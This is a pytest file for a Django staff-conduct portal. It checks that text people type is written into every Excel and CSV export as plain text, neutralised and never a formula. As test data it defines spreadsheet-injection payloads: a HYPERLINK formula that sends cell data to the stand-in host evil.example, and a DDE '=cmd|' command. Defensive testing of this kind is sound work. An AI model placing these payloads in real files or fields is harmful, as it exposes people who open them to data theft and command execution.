"""Text people type never becomes a formula in a workbook the portal writes (issue 14, item 1).

A name, post, remark, description or title typed as ``=HYPERLINK("http://evil.example/?d="&A1,"Xem")`` would
run when district or city staff open the file. Every writer is listed once, in ``WRITERS``: each is run through
the portal's real code path over data holding the hostile strings in every person-typed field it writes, and
the file is read back with python-calamine and unzipped. ``test_every_workbook_writer_is_covered`` fails when a
module makes a workbook some other way than ``core.xlsx.new_workbook`` or is missing from ``WRITERS``.
"""

from __future__ import annotations

from collections.abc import Callable
import csv
import datetime
import io
from pathlib import Path
import re
import xml.etree.ElementTree as ET
import zipfile

from django.conf import settings
from django.utils import timezone
import pytest
from python_calamine import CalamineWorkbook

from core.xlsx import CSV, CSV_TEXT_PREFIX, FORMULA_STARTS, Formula, header_cell, new_workbook
from evaluations.inspections.exports import inspections_csv_stream, inspections_workbook
from evaluations.models import Rating
from evaluations.ratings.sheet_export import sheet_workbook
from pledges.exports import roster_workbook
from reports.annual.services import annual_report_build_now
from reports.choices import CommendationStatus, ExportKind
from reports.commendations.exports import commendation_csv_stream, commendation_workbook
from reports.commendations.figures import commendation_entry_rows
from reports.exports.kinds import export_write
from reports.exports.writer import ExportRequest
from reports.quarterly.services import quarterly_report_build_now
from tests.builders import make_user, open_sheet, record_violation
from tests.factories import (
    CommendationEntryFactory,
    CommendationListFactory,
    CorrectiveActionFactory,
    FeedbackCaseFactory,
    FindingFactory,
    InspectionTeamFactory,
    InspectionVisitFactory,
    PledgeCampaignFactory,
    PledgeFactory,
    StaffFactory,
    UnitFactory,
    UserFactory,
)
from tests.reports.quarterly_helpers import QUARTER, rate_ward
from units.choices import Role, UnitKind
from units.staff_import import staff_import_template

pytestmark = pytest.mark.django_db

HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
)
# What would betray one of them inside a formula, whatever the writer did to its first character.
PAYLOADS = ("evil.example", "cmd|", "1+1", "2+3", "SUM(A1)")
SHEET_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
ROOT = Path(settings.BASE_DIR)


@pytest.fixture
def world(hanoi):
    """A district of Hanoi whose seven wards are named by the hostile strings; the first ward's seven staff have
    them as names and posts, and so do the city administrator and the district officer."""
    district = UnitFactory(parent=hanoi, kind=UnitKind.URBAN_DISTRICT, name="Quận Thử Nghiệm")
    wards = [UnitFactory(parent=district, name=text) for text in HOSTILE]
    staff = [
        StaffFactory(unit=wards[0], full_name=text, position=text, staff_code=f"=1+{index}")
        for index, text in enumerate(HOSTILE)
    ]
    admin = make_user("hostile.admin", Role.CITY_ADMIN, hanoi, full_name=HOSTILE[0])
    officer = make_user("hostile.officer", Role.DISTRICT_OFFICE, district, full_name=HOSTILE[1])
    return {"district": district, "wards": wards, "staff": staff, "admin": admin, "officer": officer}


def _rated_sheet(world):
    """This month's sheet of the first ward, each rating's remark and the staff member's violation hostile."""
    month = timezone.localdate().replace(day=1)
    for person, text in zip(world["staff"], HOSTILE, strict=True):
        record_violation(actor=world["admin"], staff=person, day=month, description=text)
    sheet = open_sheet(world["wards"][0], world["admin"], month)
    ratings = list(sheet.ratings.select_related("staff"))
    for rating in ratings:
        rating.remark = rating.staff.full_name
    Rating.objects.bulk_update(ratings, ["remark"])
    return sheet


def _campaign(world):
    campaign = PledgeCampaignFactory(scope_unit=world["district"], title=HOSTILE[2])
    for person, text in zip(world["staff"][:4], HOSTILE, strict=False):
        PledgeFactory(campaign=campaign, staff=person, recorded_by=UserFactory(full_name=text))
    return campaign


def _inspected(world):
    """A visit of each ward (subject, team, item, finding and corrective action hostile)."""
    for ward, text in zip(world["wards"], HOSTILE, strict=True):
        visit = InspectionVisitFactory(unit=ward, subject=text, team=InspectionTeamFactory(name=text))
        finding = FindingFactory(visit=visit, description=text, staff=world["staff"][:2])
        CorrectiveActionFactory(finding=finding, description=text)


def _export(world, kind, **period) -> bytes:
    buffer = io.BytesIO()
    export_write(request=ExportRequest(kind=kind, unit=world["district"], **period), user=world["admin"], target=buffer)
    return buffer.getvalue()


def _ratings_export(world) -> bytes:
    sheet = _rated_sheet(world)
    return _export(world, ExportKind.RATINGS, start=sheet.month, end=sheet.month)


def _feedback_export(world) -> bytes:
    for ward, person, text in zip(world["wards"], world["staff"], HOSTILE, strict=True):
        FeedbackCaseFactory(unit=ward, staff=person, text=text, staff_mentioned=text, internal_note=text,
                            public_reply=text, satisfaction=4)
    today = timezone.localdate()
    return _export(world, ExportKind.FEEDBACK, start=today, end=today)


def _pledges_export(world) -> bytes:
    return _export(world, ExportKind.PLEDGES, campaign=_campaign(world))


def _inspections_export(world) -> bytes:
    _inspected(world)
    today = timezone.localdate()
    return _export(world, ExportKind.INSPECTIONS, start=today - datetime.timedelta(days=1), end=today)


def _inspections_workbook(world) -> bytes:
    _inspected(world)
    buffer = io.BytesIO()
    inspections_workbook(user=world["admin"], target=buffer)
    return buffer.getvalue()


def _roster(world) -> bytes:
    buffer = io.BytesIO()
    roster_workbook(campaign=_campaign(world), root=world["district"], target=buffer)
    return buffer.getvalue()


def _monthly_sheet(world) -> bytes:
    return sheet_workbook(_rated_sheet(world))


def _commendations(world) -> bytes:
    commendation_list = CommendationListFactory(unit=world["district"])
    for rank, (person, text) in enumerate(zip(world["staff"], HOSTILE, strict=True), start=1):
        CommendationEntryFactory(commendation_list=commendation_list, staff=person, rank=rank, reason=text,
                                 included=rank % 2 == 1)
    return commendation_workbook(commendation_list=commendation_list,
                                 rows=commendation_entry_rows(commendation_list=commendation_list))


def _quarterly(world) -> bytes:
    for ward in world["wards"]:  # every ward rated, so each has its row in the report
        rate_ward(ward, ["A", "A", "A"], quarter=QUARTER, staff=world["staff"] if ward == world["wards"][0] else None)
    report = quarterly_report_build_now(unit=world["district"], quarter=QUARTER)
    return (Path(settings.MEDIA_ROOT) / report.file.name).read_bytes()


def _annual(world) -> bytes:
    """The year of the last finished quarter: every ward rated (each has its rows), the first ward's staff on an
    approved quarterly commendation list (their names and posts in the year's list)."""
    for ward in world["wards"]:
        rate_ward(ward, ["A", "A", "A"], quarter=QUARTER, staff=world["staff"] if ward == world["wards"][0] else None)
    approved = CommendationListFactory(unit=world["district"], year=QUARTER.year, quarter=QUARTER.number,
                                       status=CommendationStatus.APPROVED, approved_by=world["officer"],
                                       approved_at=timezone.now())
    for rank, person in enumerate(world["staff"], start=1):
        CommendationEntryFactory(commendation_list=approved, staff=person, rank=rank)
    report = annual_report_build_now(unit=world["district"], year=QUARTER.year)
    assert report.is_ready, report.error
    return (Path(settings.MEDIA_ROOT) / report.file.name).read_bytes()


def _staff_template(world) -> bytes:
    return staff_import_template(user=world["officer"])


# Every module that writes a workbook, with the portal's real call for each workbook it writes. A module that
# calls core.xlsx.new_workbook must be here (test_every_workbook_writer_is_covered).
WRITERS: dict[str, dict[str, Callable[[dict], bytes]]] = {
    "reports/exports/writer.py": {
        ExportKind.RATINGS: _ratings_export,
        ExportKind.FEEDBACK: _feedback_export,
        ExportKind.PLEDGES: _pledges_export,
        ExportKind.INSPECTIONS: _inspections_export,
    },
    "evaluations/inspections/exports.py": {"inspections": _inspections_workbook},
    "pledges/exports.py": {"roster": _roster},
    "evaluations/ratings/sheet_export.py": {"monthly sheet": _monthly_sheet},
    "reports/commendations/exports.py": {"commendation list": _commendations},
    "reports/quarterly/workbook.py": {"quarterly report": _quarterly},
    "reports/annual/workbook.py": {"annual summary": _annual},
    "units/staff_import.py": {"staff import template": _staff_template},
}
# The formulas the portal writes on purpose: the monthly sheet's total and grade, on each row.
DELIBERATE_FORMULAS = {"monthly sheet": re.compile(r'(MIN\(SUM\([A-Z]+\d+:[A-Z]+\d+\),\d+\)|.*IF\([A-Z]+\d+>=.*)')}
# Workbooks without numbers (who signed when; the import template's example rows) or without dates (the monthly
# sheet; a commendation list not yet approved).
WITHOUT_NUMBERS = {ExportKind.PLEDGES, "roster", "staff import template"}
WITHOUT_DATES = {"monthly sheet", "commendation list"}
CASES = [pytest.param(build, name, id=f"{module}:{name}") for module, builds in WRITERS.items() for name, build in builds.items()]


def _xml_cells(content: bytes):
    """(sheet part, cell element, quote prefix flag) of every cell of every sheet."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        styles = ET.fromstring(archive.read("xl/styles.xml"))
        xfs = styles.find(f"{SHEET_NS}cellXfs")
        quoted = [xf.get("quotePrefix") in ("1", "true") for xf in xfs] if xfs is not None else []
        for name in archive.namelist():
            if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                for cell in ET.fromstring(archive.read(name)).iter(f"{SHEET_NS}c"):
                    style = int(cell.get("s", 0))
                    yield name, cell, bool(quoted and quoted[style])


_ESCAPED = re.compile(r"_x([0-9A-Fa-f]{4})_")


def _cell_text(cell) -> str | None:
    """An inline string's text as Excel reads it: a control character may be written as ``_x000D_``."""
    inline = cell.find(f"{SHEET_NS}is")
    if inline is None:
        return None
    text = "".join(t.text or "" for t in inline.iter(f"{SHEET_NS}t"))
    return _ESCAPED.sub(lambda match: chr(int(match.group(1), 16)), text)


@pytest.mark.parametrize("build, name", CASES)
def test_hostile_text_reaches_every_workbook_as_text(world, build, name):
    content = build(world)

    # Unzipped: no formula carries anything a person typed, and each hostile text is a text cell as typed,
    # marked "quote prefix" so that editing it in Excel keeps it text.
    formulas = []
    texts = []
    for part, cell, quoted in _xml_cells(content):
        formula = cell.find(f"{SHEET_NS}f")
        if formula is not None:
            formulas.append(formula.text or "")
            assert not any(payload in (formula.text or "") for payload in PAYLOADS), (part, formula.text)
        text = _cell_text(cell)
        if text is not None:
            texts.append(text)
            if text[:1] in FORMULA_STARTS:
                assert cell.get("t") == "inlineStr" and quoted, (part, cell.get("r"), text)
    deliberate = DELIBERATE_FORMULAS.get(name)
    assert all(deliberate and deliberate.fullmatch(formula) for formula in formulas), formulas
    for text in HOSTILE:
        assert any(value.startswith(text) for value in texts), f"{text!r} missing from {name}"

    # Read back as Excel would: each hostile text exactly, never a computed or empty value; numbers are numbers.
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(content))
    values = [value for sheet in workbook.sheet_names for row in workbook.get_sheet_by_name(sheet).to_python()
              for value in row]
    for text in HOSTILE:
        assert any(isinstance(value, str) and value.startswith(text) for value in values), f"{text!r} in {name}"
    if name not in WITHOUT_NUMBERS:
        assert any(isinstance(value, int | float) and not isinstance(value, bool) for value in values), name
    if name not in WITHOUT_DATES:
        assert any(isinstance(value, datetime.date) for value in values), name
    if deliberate:
        assert len(formulas) == 2 * len(HOSTILE)  # a total and a grade for each of the seven staff


@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "ordinary"])
def test_only_a_formula_the_portal_means_is_written_as_one(write_only):
    """Text given any way a writer gives it (a value, a ready-made cell, a cell set or overwritten later) stays
    text, an error value's spelling too; a ``Formula`` stays a formula; numbers and dates keep their types."""
    workbook = new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("Thử") if write_only else workbook.active
    sheet.append([*HOSTILE, "#N/A", header_cell(sheet, HOSTILE[1]) if write_only else HOSTILE[1]])
    sheet.append([1, 2.5, datetime.date(2026, 1, 31), Formula("=A2+B2")])
    if not write_only:
        sheet["A3"] = HOSTILE[0]
        sheet.cell(3, 2, Formula("=SUM(A2:B2)"))
        sheet.cell(3, 3, Formula("=A2")).value = HOSTILE[1]  # a formula cell overwritten with text
    buffer = io.BytesIO()
    workbook.save(buffer)

    formulas = [cell.find(f"{SHEET_NS}f").text for _part, cell, _quoted in _xml_cells(buffer.getvalue())
                if cell.find(f"{SHEET_NS}f") is not None]
    rows = CalamineWorkbook.from_filelike(io.BytesIO(buffer.getvalue())).get_sheet_by_index(0).to_python()
    assert rows[0][:9] == [*HOSTILE, "#N/A", HOSTILE[1]]
    assert rows[1][:3] == [1, 2.5, datetime.date(2026, 1, 31)]
    if write_only:
        assert formulas == ["A2+B2"]
    else:
        assert formulas == ["A2+B2", "SUM(A2:B2)"]
        assert rows[2][:1] + rows[2][2:3] == [HOSTILE[0], HOSTILE[1]]
    with pytest.raises(ValueError):
        Formula("SUM(A1:A2)")


def _portal_modules() -> list[Path]:
    packages = ("conduct_portal", "core", "units", "pledges", "evaluations", "feedback", "reports", "portal", "seed")
    return [path for package in packages for path in (ROOT / package).rglob("*.py") if "migrations" not in path.parts]


# Ways to make a workbook (or a sheet) without core.xlsx.new_workbook, whose sheets keep text as text.
BYPASS = re.compile(r"(?<!new_)\bWorkbook\s*\(|\bload_workbook\s*\(|\bWorksheet\s*\(|WriteOnlyWorksheet|openpyxl\.Workbook"
                    r"|xlsxwriter|\bcsv\.writer\s*\(")


def test_every_workbook_writer_is_covered():
    """Only core.xlsx makes a workbook; every module that asks it for one (``new_workbook``, or ``write_table`` for
    a streamed .xlsx or .csv) is in WRITERS, and every kind of export is among the cases of the streamed writer."""
    writers, bypasses = set(), []
    for path in _portal_modules():
        relative = path.relative_to(ROOT).as_posix()
        source = path.read_text(encoding="utf-8")
        if relative == "core/xlsx.py":
            continue
        if BYPASS.search(source):
            bypasses.append(relative)
        if re.search(r"\b(new_workbook|write_table)\s*\(", source):
            writers.add(relative)

    assert bypasses == [], "make workbooks with core.xlsx.new_workbook, which keeps people's text as text"
    assert writers == set(WRITERS), "add each new workbook writer to WRITERS, with its hostile data"
    assert set(WRITERS["reports/exports/writer.py"]) == set(ExportKind.values)


# --- CSV: the same streamed writers as .csv ------------------------------------------------------------------

def _csv_export(kind, **period):
    def build(world) -> bytes:
        if kind == ExportKind.RATINGS:
            _rated_sheet(world)
            month = timezone.localdate().replace(day=1)
            period.update(start=month, end=month)
        elif kind == ExportKind.FEEDBACK:
            for ward, person in zip(world["wards"], world["staff"], strict=True):
                FeedbackCaseFactory(unit=ward, staff=person, satisfaction=4)
            today = timezone.localdate()
            period.update(start=today, end=today)
        elif kind == ExportKind.PLEDGES:
            period.update(campaign=_campaign(world))
        else:
            _inspected(world)
            today = timezone.localdate()
            period.update(start=today - datetime.timedelta(days=1), end=today)
        buffer = io.BytesIO()
        export_write(request=ExportRequest(kind=kind, unit=world["district"], file_format=CSV, **period),
                     user=world["admin"], target=buffer)
        return buffer.getvalue()

    return build


def _csv_roster(world) -> bytes:
    buffer = io.BytesIO()
    roster_workbook(campaign=_campaign(world), root=world["district"], target=buffer, file_format=CSV)
    return buffer.getvalue()


def _csv_inspections(world) -> bytes:
    _inspected(world)
    return b"".join(inspections_csv_stream(user=world["admin"]))


def _csv_commendations(world) -> bytes:
    commendation_list = CommendationListFactory(unit=world["district"])
    for rank, (person, text) in enumerate(zip(world["staff"], HOSTILE, strict=True), start=1):
        CommendationEntryFactory(commendation_list=commendation_list, staff=person, rank=rank, reason=text,
                                 included=rank % 2 == 1)
    rows = commendation_entry_rows(commendation_list=commendation_list)
    return b"".join(commendation_csv_stream(commendation_list=commendation_list, rows=rows))


CSV_CASES = [
    *(pytest.param(_csv_export(kind), kind, id=f"export:{kind}") for kind in ExportKind.values),
    pytest.param(_csv_roster, "roster", id="roster"),
    pytest.param(_csv_inspections, "inspections", id="inspections (streamed)"),
    pytest.param(_csv_commendations, "commendation list", id="commendation list (streamed)"),
]


@pytest.mark.parametrize("build, name", CSV_CASES)
def test_hostile_text_reaches_every_csv_neutralised(world, build, name):
    """Every CSV the portal writes: UTF-8 with a byte-order mark, Vietnamese intact, and text a spreadsheet would
    run as a formula written after an apostrophe (OWASP), so that no field starts like a formula."""
    content = build(world)
    assert content.startswith(b"\xef\xbb\xbf")
    records = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    fields = [field for record in records for field in record]
    assert not [field for field in fields if field[:1] in FORMULA_STARTS]
    for text in HOSTILE:
        assert any(field.startswith(CSV_TEXT_PREFIX + text) for field in fields), f"{text!r} missing from {name}"
    assert any("Đơn vị" in field or "Ngày" in field for field in records[0] + records[1])
